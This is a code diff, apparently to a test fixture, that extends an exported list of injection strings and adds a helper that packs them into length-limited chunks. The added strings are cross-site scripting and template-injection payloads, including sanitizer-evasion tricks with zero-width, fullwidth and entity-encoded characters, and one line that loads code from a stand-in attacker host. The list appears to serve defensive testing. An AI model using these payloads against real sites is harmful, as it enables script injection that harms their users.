@@ -64,4 +64,38 @@ export const INJECTIONS = [
   '](javascript:alert(1))',
   '<img src=x onerror=alert(1)>\u202egpj.x',
   '__proto__',
+  '</textarea><script>alert(1)</script>',
+  '</title><img src=x onerror=alert(1)>',
+  '</style><svg onload=alert(1)>',
+  '--><img src=x onerror=alert(1)>',
+  '"}</script><script>alert(1)</script>{"',
+  '\\"};alert(1);//',
+  '<div style="width:expression(alert(1))">',
+  '<p style="behavior:url(//evil.example/x.htc)">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>',
+  '<svg></p><style><a id="</style><img src onerror=alert(1)>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>',
+  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<svg><set attributeName=onload to=alert(1)>',
+  '<isindex action=javascript:alert(1) type=image>',
+  'java\u200bscript:alert(1)',
+  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
+  '<scr\u0131pt>alert(1)</scr\u0131pt>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<button popovertarget=x onbeforetoggle=alert(1)>',
+  '{{7*7}}{%raw%}<%=alert(1)%>',
 ];
+
+/**
+ * All of them as few texts of at most `max` characters. One that is longer by itself is left out.
+ */
+export function packed(max: number, texts: readonly string[] = INJECTIONS): string[] {
+  const packs: string[] = [];
+  for (const text of texts.filter(({ length }) => length <= max)) {
+    const last = packs.at(-1);
+    if (last !== undefined && last.length + 1 + text.length <= max) {
+      packs[packs.length - 1] = `${last} ${text}`;
+    } else packs.push(text);
+  }
+  return packs;
+}
